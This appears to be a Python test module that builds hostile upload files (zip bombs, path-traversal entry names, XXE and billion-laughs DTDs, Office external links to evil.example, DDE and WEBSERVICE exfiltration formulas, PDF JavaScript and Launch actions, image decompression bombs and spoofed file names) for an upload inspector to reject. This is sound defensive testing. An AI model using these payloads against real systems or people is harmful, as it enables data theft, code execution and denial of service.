"""Hostile files by family, made anew from the seed: archives, Word, Excel, PDF and pictures that must be refused."""

import io
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import pikepdf
from PIL import Image

from tests.uploads import files as make
from tests.uploads.test_inspection import DTD, FETCHING, LAUGHS, REFUSED, RELATIONS

Hostile = tuple[str, str, bytes]
"""Family, file name, bytes."""

GOOD = {"docx": make.docx(), "xlsx": make.xlsx()}
PICTURES = {"jpg": make.picture("JPEG", size=(300, 200)), "png": make.picture("PNG", size=(300, 200))}
HONEST = {**GOOD, **PICTURES, "pdf": make.pdf()}
EVIL_NAMES = (
    *("../../etc/cron.d/x", "..\\..\\windows\\x", "/etc/passwd", "C:\\x.exe", "word/../../x", "word\\x", "a\x01b"),
    *("word/..", "\\\\server\\share\\x", "xl/../../../x", "word/media/\x7f"),
)
OUTSIDE = (
    "http://127.0.0.1/x.dotm",
    "https://evil.example/x",
    "file:///etc/passwd",
    "\\\\server\\share\\x",
    "ftp://e/x",
)
RELATED = ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "externalLinkPath", "video", "audio")
FORMULAS = (
    *(
        'WEBSERVICE("http://evil/?"&amp;A1)',
        "cmd|'/C calc'!A0",
        'RTD("x",,"y")',
        'CALL("kernel32","WinExec","JC","x",1)',
    ),
    *('IMAGE("http://evil/x.png")', 'REGISTER.ID("x","y")', "DDE|x!y", 'webservice ("http://evil")', 'EXEC("calc")'),
)
UNCHANGED = {"stream_decode_level": pikepdf.StreamDecodeLevel.none, "compress_streams": False}
ROWS = range(1_000_000, 2_500_000)
ACTIVE_PARTS = (
    *("word/vbaProject.bin", "xl/vbaProject.bin", "word/activeX/activeX1.bin", "word/embeddings/oleObject2.bin"),
    *("xl/embeddings/oleObject1.bin", "xl/activeX/activeX2.xml", "customUI/vbaProject.bin"),
)
ENTITIES = (
    DTD,
    LAUGHS,
    DTD.encode("utf-16"),
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><x/>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "<!DOCTYPE x [" + "".join(f"<!ENTITY a{n} 'b'>" for n in range(500)) + "]><x/>",
)


def known(_chance: random.Random) -> Iterator[Hostile]:
    """The families that the tests of the examination know."""
    for family, _, name, data in REFUSED:
        yield family, name, data


def archives(chance: random.Random) -> Iterator[Hostile]:
    for kind, good in GOOD.items():
        for name in EVIL_NAMES:
            yield "entry that leads outside", f"a.{kind}", make.archive({**make.parts_of(good), name: b"x"})
        for megabytes in (65, 90):
            yield "bomb by size", f"a.{kind}", make.zip_bomb(good, f"media/{chance.random()}.bin", megabytes)
        for packed in (2, 8, 30):
            yield "bomb by ratio", f"a.{kind}", make.zip_bomb(good, "media/x.bin", packed)
        for count in (2_100, 5_000):
            yield "too many entries", f"a.{kind}", make.many_entries(good, count)
        yield "lies about sizes", f"a.{kind}", make.lying_bomb(good)
        for copies in (2, 50, 400):
            yield "overlapping entries", f"a.{kind}", overlapping(good, copies)
        for noise in range(6):
            yield "broken archive", f"a.{kind}", broken(good, chance, noise)
        yield "nested bomb", f"a.{kind}", nested(good)


def overlapping(good: bytes, copies: int) -> bytes:
    """An archive with many entries in its directory that share one place in the file."""
    stored = io.BytesIO()
    with ZipFile(stored, "w", ZIP_DEFLATED) as written:
        for name, content in make.parts_of(good).items():
            written.writestr(name, content)
        written.writestr("media/shared.bin", bytes(100_000))
        shared = written.getinfo("media/shared.bin")
        for number in range(copies):
            entry = ZipInfo(f"media/shared{number}.bin")
            for fact in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(entry, fact, getattr(shared, fact))
            written.filelist.append(entry)
            written.NameToInfo[entry.filename] = entry
    return stored.getvalue()


def broken(good: bytes, chance: random.Random, noise: int) -> bytes:
    """An archive with a wrong checksum, directory or end."""
    data = bytearray(good)
    if noise % 3 == 0:
        data[14:18] = chance.randbytes(4)
        place = data.find(b"PK\x01\x02")
        data[place + 16 : place + 20] = chance.randbytes(4)
    elif noise % 3 == 1:
        place = data.find(b"PK\x01\x02")
        data[place : place + 4] = chance.randbytes(4)
    else:
        del data[-chance.randint(1, 21) :]
    return bytes(data)


def nested(good: bytes) -> bytes:
    """A document within a document within a document, with a bomb inside that the outermost one stores unpacked."""
    stored = io.BytesIO()
    with ZipFile(stored, "w", ZIP_STORED) as written:
        for name, content in make.parts_of(good).items():
            written.writestr(name, content)
        written.writestr("word/embeddings/oleObject9.bin", make.zip_bomb(good, "x.bin", 20))
    return stored.getvalue()


def documents(_chance: random.Random) -> Iterator[Hostile]:
    for kind, good in GOOD.items():
        for name in make.parts_of(good):
            if name.endswith((".xml", ".rels")):
                for text in ENTITIES:
                    yield "document type", f"a.{kind}", make.archive({**make.parts_of(good), name: text})
        for relation in RELATED:
            for target in OUTSIDE:
                yield "leads outside", f"a.{kind}", make.related(good, RELATIONS[kind], relation, target)
        for name in ACTIVE_PARTS:
            yield "active part", f"a.{kind}", make.archive({**make.parts_of(good), name: b"x"})
    for runs in FETCHING:
        yield "fetching field", "a.docx", make.worded(GOOD["docx"], runs)
    for formula in FORMULAS:
        cell = f'<c r="C1"><f>{formula}</f><v>1</v></c></row>'
        yield "fetching formula", "a.xlsx", make.swapped(GOOD["xlsx"], "xl/worksheets/sheet1.xml", "</row>", cell)
    yield "foreign document", "a.docx", make.chunked(GOOD["docx"])
    sheet, rows = (
        "xl/worksheets/sheet1.xml",
        "".join(f'<row r="{row}"><c r="A{row}"><v>1</v></c></row>' for row in ROWS),
    )
    yield "a million rows", "a.xlsx", make.swapped(GOOD["xlsx"], sheet, "</sheetData>", f"{rows}</sheetData>")
    strings = f'<sst xmlns="{make.SHEET_NS}">' + "<si><t>x</t></si>" * 4_500_000 + "</sst>"
    packed = make.archive({**make.parts_of(GOOD["xlsx"]), "xl/sharedStrings.xml": strings})
    yield "huge shared strings", "a.xlsx", packed


def action(kind: str, **keys: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **keys)

    return change


def stream_bomb(document: pikepdf.Pdf) -> None:
    """A page whose content is half a gigabyte when it is drawn."""
    packer = zlib.compressobj(9)
    packed = b"".join([*(packer.compress(bytes(1_000_000)) for _ in range(500)), packer.flush()])
    stream = pikepdf.Stream(document, packed)
    stream.stream_dict.Filter = pikepdf.Name.FlateDecode
    document.pages[0].Contents = document.make_indirect(stream)


def doubly_packed(document: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(document, zlib.compress(zlib.compress(bytes(10_000_000))))
    stream.stream_dict.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    document.pages[0].Contents = document.make_indirect(stream)


def deep(document: pikepdf.Pdf) -> None:
    nested: pikepdf.Object = pikepdf.Array([pikepdf.Name.JavaScript])
    for _ in range(90):
        nested = pikepdf.Array([nested])
    document.Root.Deep = nested


def raw_pdf(*objects: str, root: str = "1 0 R", xref: str | None = None) -> bytes:
    """A PDF written by hand, with a cross-reference that is right unless another is given."""
    body, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = xref or "".join(["0000000000 65535 f \n", *(f"{place:010} 00000 n \n" for place in places)])
    size = len(objects) + 1
    end = f"xref\n0 {size}\n{table}trailer\n<</Size {size} /Root {root}>>\nstartxref\n{len(body)}\n%%EOF\n"
    return body + end.encode()


def pdfs(chance: random.Random) -> Iterator[Hostile]:
    script = pikepdf.String("app.alert(1)")
    for kind in ("JavaScript", "Launch", "SubmitForm", "ImportData", "Rendition", "Movie", "Sound", "GoToE"):
        for packed in (False, True):
            mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
            changed = make.pdf(action(kind, JS=script), object_stream_mode=mode)
            yield "active action", "a.pdf", changed
    for change in (stream_bomb, doubly_packed, deep):
        yield f"pdf {change.__name__.replace('_', ' ')}", "a.pdf", make.pdf(change, **UNCHANGED)
    for user in ("", "mật", "x" * 30):
        yield "encrypted pdf", "a.pdf", make.pdf(encryption=pikepdf.Encryption(user=user, owner="chủ"))
    catalog = "<</Type/Catalog/Pages 2 0 R>>"
    yield "cyclic pages", "a.pdf", raw_pdf(catalog, "<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield (
        "cyclic pages",
        "a.pdf",
        raw_pdf(catalog, "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    )
    yield "no pages", "a.pdf", raw_pdf(catalog, "<</Type/Pages/Kids[]/Count 0>>")
    yield "no pages", "a.pdf", raw_pdf("<</Type/Catalog>>")
    yield "broken references", "a.pdf", raw_pdf(catalog, root="9 0 R")
    yield (
        "broken references",
        "a.pdf",
        raw_pdf(catalog, "<</Type/Pages/Kids[]/Count 1>>", xref="0000000000 65535 f \n" * 3),
    )
    good = HONEST["pdf"]
    for _ in range(12):
        yield "cut off pdf", "a.pdf", good[: chance.randint(9, len(good) * 9 // 10)]
    for kind in GOOD:
        yield "two kinds at once", "a.pdf", good + GOOD[kind]


def png(width: int, height: int, *, frames: int = 0, rows: int = 1) -> bytes:
    """A picture that says it is of that size, with so many frames, and holds that many rows."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    data = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    if frames:
        data += chunk(b"acTL", struct.pack(">II", frames, 0))
        data += chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, width, height, 0, 0, 1, 1, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + data + chunk(b"IDAT", zlib.compress(bytes((1 + 3 * width) * rows))) + chunk(b"IEND", b"")
    )


def pictures(chance: random.Random) -> Iterator[Hostile]:
    for side in (7_000, 20_000, 65_000, 2**31 - 1):
        yield "picture bomb", "a.png", png(side, side, rows=0 if side > 10_000 else 1)
    for width, height in ((0, 10), (10, 0), (2**31 - 1, 1)):
        yield "lies about its size", "a.png", png(width, height)
    yield "animated bomb", "a.png", png(1000, 1000, frames=100_000, rows=1000)
    for kind, good in PICTURES.items():
        for _ in range(8):
            yield "cut off picture", f"a.{kind}", good[: chance.randint(12, len(good) * 3 // 4)]
        for other in GOOD.values():
            yield "two kinds at once", f"a.{kind}", good + other
    for part in (0.1, 0.3, 0.5, 0.7, 0.9):
        yield "missing rows", "a.jpg", make.cut_jpeg(make.noise((300, 200)), part)
        yield "missing rows", "a.png", make.png_of(bytes(901 * int(200 * part)), (300, 200))
    cmyk = io.BytesIO()
    Image.new("CMYK", (9_000, 9_000)).save(cmyk, "JPEG")
    yield "picture bomb", "a.jpg", cmyk.getvalue()


def names(_chance: random.Random) -> Iterator[Hostile]:
    for kind, data in HONEST.items():
        yield "deceptive name", f"báo cáo.{kind}.exe", data
        yield "deceptive name", f"báo cáo\u202e{kind[::-1]}.exe", data
        yield "deceptive name", f"a.{kind}\u200b.exe", data
        yield "deceptive name", f"a{'x' * 5000}", data
        yield "no extension", kind, data
        for other in HONEST:
            if other != kind:
                yield "wrong extension", f"a.{kind}", HONEST[other]
        yield "empty", f"a.{kind}", b""
        yield "one byte", f"a.{kind}", b"%"


FAMILIES = (known, archives, documents, pdfs, pictures, names)


def hostile_files(chance: random.Random) -> Iterator[Hostile]:
    """Yield every hostile file."""
    for family in FAMILIES:
        yield from family(chance)
